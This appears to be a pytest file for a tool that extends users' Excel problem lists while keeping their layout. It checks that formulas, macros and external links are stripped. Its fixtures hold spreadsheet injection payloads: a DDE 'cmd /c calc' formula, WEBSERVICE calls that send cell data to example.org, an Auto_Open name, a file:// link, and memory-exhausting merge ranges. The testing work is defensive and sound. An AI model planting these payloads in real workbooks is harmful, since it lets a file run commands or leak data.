"""A user's workbook with columns added: what was there stays in its place, and nothing in it can compute or fetch."""

from __future__ import annotations

import io
import re
import zipfile
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.comments import Comment
from openpyxl.formatting.rule import CellIsRule, FormulaRule
from openpyxl.styles import Font, PatternFill
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from kb.errors import UnreadableFileError
from kb.problem_list.areas import merged_area
from kb.problem_list.extending import extend
from kb.problem_list.extension import (
    ExtendedWorkbook,
    Extension,
    Link,
    NewColumn,
    NewSheet,
    SheetExtension,
    extended_workbook,
    pack,
    unpack,
)
from tests.kb.problem_list.workbooks import saved
from tests.kb.readers.office_files import zipped

COLUMNS = (NewColumn("先例数", 8), NewColumn("说明", 30))
FORMULA_STARTS = ("=", "+", "-", "@")


def listed() -> Workbook:
    """A list as staff keep it: a title over the columns, a merged problem, widths, a frozen head, a filter."""
    workbook = Workbook()
    sheet: Any = workbook.active
    sheet.title = "清单"
    for row in (
        ["某局问题清单"],
        ["序号", "问题", "责任人"],
        [1, "差旅费报销不严", "甲"],
        [None, None, "乙"],
        [2, "接待超标", "丙"],
    ):
        sheet.append(row)
    sheet.merge_cells("A1:C1")
    sheet.merge_cells("B3:B4")
    sheet["B2"].font, sheet["B2"].fill = (
        Font(bold=True, name="黑体"),
        PatternFill("solid", fgColor="FFDDEEFF"),
    )
    sheet.column_dimensions["B"].width = 44
    sheet.row_dimensions[2].height = 31
    sheet.freeze_panes, sheet.auto_filter.ref = "A3", "A2:C5"
    sheet["C3"].comment = Comment("请核对", "审核人")
    workbook.create_sheet("附表")["A1"] = "原样保留"
    return workbook


def extended(workbook: Workbook, **changes: Any) -> ExtendedWorkbook:
    sheet = SheetExtension(
        "清单",
        2,
        3,
        2,
        COLUMNS,
        {3: (5, Link("某市某局", "https://example.org/notices/a#P1")), 5: (0, "未找到")},
        {3: 2},
    )
    extension = Extension((sheet,), (NewSheet("先例明细", COLUMNS, [(1, "甲"), (2, "乙")]),))
    return extended_workbook(saved(workbook), extension, **changes)


def opened(result: ExtendedWorkbook) -> Any:
    return load_workbook(io.BytesIO(result.content))


def rows(sheet: Any) -> list[tuple[Any, ...]]:
    return [tuple(cell.value for cell in row) for row in sheet.iter_rows()]


def test_the_users_rows_stay_and_the_columns_stand_to_their_right() -> None:
    result = opened(extended(listed()))
    assert result.sheetnames == ["清单", "附表", "先例明细"]
    assert rows(result["清单"]) == [
        ("某局问题清单", None, None, None, None),
        ("序号", "问题", "责任人", "先例数", "说明"),
        (1, "差旅费报销不严", "甲", 5, "某市某局"),
        (None, None, "乙", None, None),
        (2, "接待超标", "丙", 0, "未找到"),
    ]
    assert rows(result["附表"]) == [("原样保留",)]
    assert rows(result["先例明细"]) == [("先例数", "说明"), (1, "甲"), (2, "乙")]


def test_merged_cells_widths_heights_looks_notes_and_panes_are_kept() -> None:
    sheet = opened(extended(listed()))["清单"]
    merged = {str(area) for area in sheet.merged_cells.ranges}
    assert {"A1:C1", "B3:B4"} <= merged
    assert {"D3:D4", "E3:E4"} <= merged, "the answer stands beside the whole merged problem"
    assert (sheet.column_dimensions["B"].width, sheet.row_dimensions[2].height) == (44, 31)
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("A3", "A2:E5")
    assert sheet["B2"].font.bold
    assert sheet["C3"].comment.text == "请核对"
    assert (sheet["D2"].font.name, sheet["D2"].fill.fgColor.rgb) == ("黑体", "FFDDEEFF")
    assert sheet["E3"].hyperlink.target == "https://example.org/notices/a#P1"


def hostile() -> Workbook:
    """Everything a workbook can do by itself, as far as a library writes it."""
    workbook = listed()
    sheet: Any = workbook["清单"]
    sheet["C3"] = '=WEBSERVICE("http://example.org/"&B3)'
    sheet["C4"] = '=HYPERLINK("http://example.org/","点我")'
    sheet["C5"] = "=cmd|'/c calc'!A1"
    sheet["C5"].data_type = "s"
    sheet["A5"] = "+SUM(1)*cmd|'/c calc'!A1"
    sheet["A6"], sheet["B6"] = "-无", "@SUM(1)"
    sheet["A7"] = "附件"
    sheet["A7"].hyperlink = "file://server/share/x"
    sheet["A8"].hyperlink = "https://example.org/"
    workbook.defined_names["Auto_Open"] = DefinedName(
        "Auto_Open", attr_text='WEBSERVICE("http://example.org/")'
    )
    sheet.conditional_formatting.add("C3:C5", FormulaRule(['WEBSERVICE("http://example.org/")']))
    sheet.conditional_formatting.add(
        "A3:A5", CellIsRule(operator="lessThan", formula=["3"], font=Font(bold=True))
    )
    for formula in ('"是,否"', '=INDIRECT("[x.xlsx]A!A1")'):
        rule = DataValidation(type="list", formula1=formula)
        rule.add("C3:C5")
        sheet.add_data_validation(rule)
    return workbook


def test_nothing_in_it_can_compute_or_fetch() -> None:
    result = extended(hostile())
    with zipfile.ZipFile(io.BytesIO(result.content)) as archive:
        for name in archive.namelist():
            part = archive.read(name).decode("utf-8", "replace")
            assert "<f>" not in part, name
            assert "<f " not in part, name
            assert not re.search(r"WEBSERVICE|INDIRECT|Auto_Open|file://", part), name
    for sheet in opened(result):
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                    assert cell.quotePrefix, cell.coordinate
    (told,) = (remark for remark in result.remarks if "没有保留" in remark)
    assert "1 个自定义名称" in told
    assert "1 个带公式的条件格式" in told


def test_macros_and_external_links_go_and_are_told() -> None:
    stream = io.BytesIO(saved(listed()))
    with zipfile.ZipFile(stream, "a") as archive:
        archive.writestr("xl/vbaProject.bin", b"x")
        for part in ("externalLink1.xml", "externalLink2.xml", "_rels/externalLink1.xml.rels"):
            archive.writestr(f"xl/externalLinks/{part}", b"<externalLink/>")
    result = extended_workbook(
        stream.getvalue(), Extension((SheetExtension("清单", 2, 3, 2, COLUMNS, {}, {}),), ())
    )
    (told,) = (remark for remark in result.remarks if "没有保留" in remark)
    assert "1 个宏工程、2 个外部数据链接没有保留" in told
    with zipfile.ZipFile(io.BytesIO(result.content)) as archive:
        assert not [name for name in archive.namelist() if "vba" in name or "externalLink" in name]


def test_a_plain_workbook_loses_nothing() -> None:
    assert not any("没有保留" in remark for remark in extended(listed()).remarks)


def test_harmless_rules_links_and_dashes_stay() -> None:
    sheet = opened(extended(hostile()))["清单"]
    assert [rule.formula1 for rule in sheet.data_validations.dataValidation] == ['"是,否"']
    assert len(list(sheet.conditional_formatting)) == 1
    assert (sheet["A7"].hyperlink, sheet["A8"].hyperlink.target) == (None, "https://example.org/")
    assert sheet["A6"].value == "-无"
    assert sheet["C5"].value == "'=cmd|'/c calc'!A1"


def test_a_formula_keeps_the_value_it_was_last_shown_with() -> None:
    """The library writes no cached values, so the sheet is changed by hand."""
    workbook = listed()
    sheet: Any = workbook["清单"]
    sheet["C3"] = 41
    content = io.BytesIO(saved(workbook))
    with zipfile.ZipFile(content) as archive:
        parts: dict[str, str | bytes] = {name: archive.read(name) for name in archive.namelist()}
    name = "xl/worksheets/sheet1.xml"
    parts[name] = re.sub(
        r'(<c r="C3"[^>]*>)<v>41</v>', r"\1<f>40+1</f><v>41</v>", bytes(parts[name]).decode()
    )  # type: ignore[arg-type]
    assert "<f>40+1</f>" in str(parts[name])
    extension = Extension((SheetExtension("清单", 2, 3, 2, COLUMNS, {3: (1, "x")}),))
    assert opened(extended_workbook(zipped(parts), extension))["清单"]["C3"].value == 41


def test_macros_and_other_foreign_parts_are_left_behind() -> None:
    with zipfile.ZipFile(io.BytesIO(saved(listed()))) as archive:
        parts: dict[str, str | bytes] = {name: archive.read(name) for name in archive.namelist()}
    parts |= {"xl/vbaProject.bin": b"macro", "xl/activeX/a.bin": b"x", "customUI/customUI.xml": "<x/>"}
    extension = Extension((SheetExtension("清单", 2, 3, 2, COLUMNS, {3: (1, "x")}),))
    with zipfile.ZipFile(io.BytesIO(extended_workbook(zipped(parts), extension).content)) as archive:
        assert not [name for name in archive.namelist() if re.search("vba|activeX|customUI", name)]


def test_cells_merged_far_to_the_right_make_room() -> None:
    workbook = listed()
    sheet: Any = workbook["清单"]
    sheet.merge_cells("C5:E5")
    sheet.merge_cells("A6:XFD6")
    extension = Extension((SheetExtension("清单", 2, 3, 2, COLUMNS, {5: (1, "x"), 6: (2, "y")}),))
    result = opened(extended_workbook(saved(workbook), extension))["清单"]
    assert [result.cell(2, 6).value, result.cell(5, 6).value, result.cell(6, 7).value] == ["先例数", 1, "y"]
    assert "A6:E6" in {str(area) for area in result.merged_cells.ranges}


@pytest.mark.parametrize(
    "content",
    [
        b"PK\x03\x04",
        zipped({"xl/workbook.xml": "<!DOCTYPE x><x/>"}),
        zipped({"xl/workbook.xml": "<x/>", "xl/big.bin": bytes(30 * 2**20)}),
        zipped({"word/document.xml": "<x/>"}),
    ],
)
def test_what_is_no_workbook_is_refused(content: bytes) -> None:
    with pytest.raises(UnreadableFileError):
        extended_workbook(content, Extension(()))


def test_a_range_merged_over_the_whole_sheet_is_refused_at_once() -> None:
    """A cell for each of its places would fill the memory."""
    content = io.BytesIO(saved(listed()))
    with zipfile.ZipFile(content) as archive:
        parts: dict[str, str | bytes] = {name: archive.read(name) for name in archive.namelist()}
    name = "xl/worksheets/sheet1.xml"
    parts[name] = bytes(parts[name]).decode().replace('ref="B3:B4"', 'ref="A9:XFD1048576"')  # type: ignore[arg-type]
    extension = Extension((SheetExtension("清单", 2, 3, 2, COLUMNS, {3: (1, "x")}),))
    with pytest.raises(UnreadableFileError, match="整张工作表"):
        extended_workbook(zipped(parts), extension)


def test_merged_ranges_that_never_end_are_counted_in_linear_time() -> None:
    """Quadratic behaviour would pass the time limit of every test."""
    assert merged_area(b"<mergeCell " * 500_000) == 0
    assert merged_area(b'<mergeCells><mergeCell ref="A1:C2"/><x:mergeCell ref="B5:B9"/></mergeCells>') == 11


def test_packing_and_unpacking_give_the_same() -> None:
    extension = Extension(
        (SheetExtension("表", 2, 3, 1, COLUMNS, {2: [1, Link("a", "https://b")]}, {2: 3}),),
        (NewSheet("新", COLUMNS, [[None, "x"]]),),
    )
    assert unpack(pack(b"content", extension)) == (b"content", extension)


_cell_texts = st.text(max_size=30) | st.sampled_from(["=1+1", "+1", "-1", "@x", "\t=1", "=", "_x0041_", "'="])


@settings(deadline=None, max_examples=40)
@given(st.lists(st.lists(_cell_texts, min_size=2, max_size=3), min_size=1, max_size=6))
def test_any_text_comes_back_in_its_place_and_is_never_a_formula(cells: list[list[str]]) -> None:
    workbook = Workbook()
    sheet: Any = workbook.active
    sheet.title = "清单"
    kept: dict[tuple[int, int], str] = {}
    for row, texts in enumerate(cells, 2):
        for column, text in enumerate(texts, 1):
            clean = "".join(c for c in text if c.isprintable())
            if clean:
                sheet.cell(row, column).value = clean
                sheet.cell(row, column).data_type = "s"
                kept[row, column] = clean
    extension = Extension((SheetExtension("清单", 1, 3, 1, COLUMNS, {2: (1, "x")}),))
    content, _ = extend(saved(workbook), extension)
    result: Any = load_workbook(io.BytesIO(content))["清单"]
    for (row, column), text in kept.items():
        cell = result.cell(row, column)
        assert cell.data_type == "s"
        assert str(cell.value).removeprefix("'") == text.removeprefix("'") or cell.value == text


def test_a_formula_without_a_result_says_so_and_is_named() -> None:
    """Workbooks that a program wrote and no office program has opened hold no results."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["序号", "问题"])
    sheet.append([1, "差旅费报销审核不严"])
    sheet.append([2, '=CONCATENATE("公务","接待")'])
    stored = io.BytesIO()
    book.save(stored)
    content, remarks = extend(stored.getvalue(), Extension((), ()))
    cell = load_workbook(io.BytesIO(content)).worksheets[0]["B3"]
    assert cell.value == "（公式没有结果）"
    assert any("有 1 个公式单元格没有算好的结果（Sheet!B3）" in remark for remark in remarks)


def test_a_new_heading_is_as_high_as_headings_over_two_rows() -> None:
    workbook = Workbook()
    sheet: Any = workbook.active
    sheet.title = "清单"
    for row in (["序号", "反馈问题"], [None, "具体表现"], [1, "接待超标"]):
        sheet.append(row)
    sheet.merge_cells("A1:A2")
    extension = Extension((SheetExtension("清单", 2, 2, 2, COLUMNS, {3: (1, "甲")}, {}, 1, 2),))
    made: Any = load_workbook(io.BytesIO(extended_workbook(saved(workbook), extension).content)).active
    assert [made["C1"].value, made["C3"].value] == ["先例数", 1]
    assert {"A1:A2", "C1:C2", "D1:D2"} == {str(area) for area in made.merged_cells.ranges}
